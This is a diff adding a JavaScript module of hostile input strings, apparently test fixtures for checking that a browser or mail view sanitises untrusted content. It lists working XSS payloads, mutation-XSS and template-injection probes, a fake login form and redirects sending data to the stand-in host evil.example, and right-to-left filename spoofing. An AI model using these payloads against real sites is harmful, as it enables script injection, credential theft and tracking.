@@ -1,0 +1,35 @@
+// What someone might type, or a mail server answer, in the hope that a browser does it.
+
+/** Each fits a line of 200 characters. Whatever runs calls `alert`; whatever leaves goes to evil.example. */
+export const HOSTILE = [
+  "<script>alert(1)</script>",
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  "</title></textarea></script><script>alert(1)</script>",
+  "javascript:alert(1)//",
+  '<a href="javascript:alert(1)">a prize</a> [a prize](javascript:alert(1))',
+  '<a href="data:text/html,<script>alert(1)</script>">a prize</a>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  "<img src=//evil.example/pixel.png> ![x](http://evil.example/pixel.png)",
+  "<link rel=stylesheet href=//evil.example/style.css>",
+  "<style>*{display:none}@import '//evil.example/style.css'</style>",
+  '<p style="background:url(//evil.example/x);position:fixed;inset:0">over everything</p>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>a prize</text></a>",
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  '<div hx-get="/logout" hx-trigger="load" hx-swap="outerHTML">x</div>',
+  '<div data-dialog="/logout" class="modal" id="main">x</div>',
+  'x" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<base href=//evil.example/>",
+  "<form action=//evil.example/><input name=password autofocus><button>Log in</button></form>",
+  "{{ 7 * 7 }}{% for i in range(3) %}{{ i }}{% endfor %}{# gone #}",
+  "${alert(1)} #{7*7} <%= 7*7 %> `alert(1)`",
+  "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<IMG SRC=`javascript:alert(1)`> <img/src='x'/onerror=alert(1)> <a href='jav&#x09;ascript:alert(1)'>a prize</a>",
+  // Right-to-left override and isolates: the end of the line would read backwards; nothing to see; an accent tower.
+  "invoice\u202Egpj.exe\u2066 \u2067\u200B\uFEFF\u00AD Z\u0351\u0353\u0334\u0327a\u035F\u0321lgo",
+  "\u{E0041}\u{E0042} \uFFFD \u{10FFFD} \u2028line\u2029paragraph",
+];
